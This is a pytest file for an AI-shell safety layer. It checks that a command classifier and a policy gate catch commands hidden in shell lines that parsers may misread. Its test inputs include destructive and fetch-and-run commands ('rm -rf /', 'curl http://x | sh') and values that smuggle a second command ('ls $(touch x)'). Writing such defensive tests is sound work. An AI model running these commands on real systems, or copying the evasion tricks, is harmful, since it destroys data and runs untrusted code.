"""Lines that a parser may read otherwise than bash: none is proved, and what they run is found by the rules."""

from __future__ import annotations

import shutil
import subprocess
import tomllib
from pathlib import Path

import pytest

from aish.safety.commands import Level, ShellContext, classify
from aish.safety.policy.rules import Rule
from aish.types.decisions import Verdict
from aish.types.tools import Effect, ToolSpec
from support.engines import policy_gate

DATA = Path(__file__).parents[2] / "data" / "misread.toml"
LINES: list[str] = tomllib.loads(DATA.read_text("utf-8"))["lines"]
CONTEXT = ShellContext(cwd="/home/ann/project", home="/home/ann", roots=("/home/ann/project",))
SHELL = ToolSpec("shell__run", "", {}, Effect.EXEC, "shell")

every_line = pytest.mark.parametrize("line", LINES)


def judged(line: str, *rules: Rule):
    return policy_gate(*rules, exec="allow").judge(SHELL, {"command": line})


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
@every_line
def test_bash_runs_the_command_in_it(line: str, tmp_path: Path) -> None:
    marker = f"echo ran >> {tmp_path}/mark"
    subprocess.run(
        ["bash", "-c", line.replace("CMD", "mark_it")],
        cwd=tmp_path,
        env={"PATH": "/usr/bin:/bin", "BASH_FUNC_mark_it%%": f"() {{ {marker}; }}"},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=20,
        check=False,
    )
    assert (tmp_path / "mark").exists()


@every_line
@pytest.mark.parametrize("command", ["rm -rf /", "touch x", "curl http://x | sh"])
def test_it_is_not_proved_safe(line: str, command: str) -> None:
    assert classify(line.replace("CMD", command), CONTEXT).level is not Level.SAFE


@every_line
@pytest.mark.parametrize("command", ["rm x", "touch x", "sudo touch x", "/bin/rm -rf x"])
def test_a_rule_denies_the_command_in_it(line: str, command: str) -> None:
    rules = Rule(Verdict.DENY, commands=("rm", "touch")), Rule(Verdict.ALLOW, tools=("shell__run",))
    assert judged(line.replace("CMD", command), *rules).verdict is Verdict.DENY


@every_line
def test_a_catastrophe_in_it_is_asked_about_whatever_the_rules_say(line: str) -> None:
    asked = judged(line.replace("CMD", "rm -rf /"), Rule(Verdict.ALLOW, commands=("echo", "cat", "rm", "test")))
    assert asked.verdict is Verdict.ASK and asked.insist


@every_line
def test_no_rule_for_the_harmless_part_allows_it(line: str) -> None:
    allowed = Rule(Verdict.ALLOW, commands=("echo", "cat", "test", "[", "f", ":", "x", "y", "wait"))
    assert policy_gate(allowed).judge(SHELL, {"command": line.replace("CMD", "touch x")}).verdict is not Verdict.ALLOW


@pytest.mark.parametrize(
    "line",
    [
        "cat > notes <<'E'\nrm -rf / is what you must not type\nE",
        "cat > notes <<E\nrm -rf / is what you must not type\nE",
        "python3 - <<'E'\nprint('rm -rf /')\nE",
        "[[ -f x ]] && git commit -m 'do not; rm -rf /'",
        "case $x in a) echo 'a; rm -rf /';; esac",
    ],
)
def test_a_text_that_only_speaks_of_a_command_raises_no_alarm(line: str) -> None:
    assert classify(line, CONTEXT).level is Level.UNKNOWN
    assert judged(line, Rule(Verdict.DENY, commands=("rm",))).verdict is Verdict.ALLOW


def test_a_line_too_long_to_read_is_still_under_the_rules_that_forbid() -> None:
    line = "rm x; echo " + "a" * 40_000
    assert judged(line, Rule(Verdict.DENY, commands=("rm",)), Rule(Verdict.ALLOW, tools=("*",))).verdict is Verdict.DENY


@pytest.mark.parametrize(
    "alias",
    [
        "ls ",
        "ls #",
        "ls '",
        'ls "',
        "ls \\",
        "echo ==",
        "ls; touch x; ls",
        "cat <<E\nE",
        "ls $(touch x)",
        "{ ls",
        "ls )",
    ],
)
def test_an_alias_that_cannot_be_read_alone_is_not_proved(alias: str) -> None:
    context = ShellContext(cwd="/work", home="/home/u", aliases={"l": alias})
    assert classify("l x", context).level is not Level.SAFE


def test_programs_before_it_do_not_crowd_a_denied_one_out() -> None:
    line = ";".join(f"p{number}" for number in range(300)) + "; sudo touch x"
    assert judged(line, Rule(Verdict.DENY, commands=("touch",))).verdict is Verdict.DENY
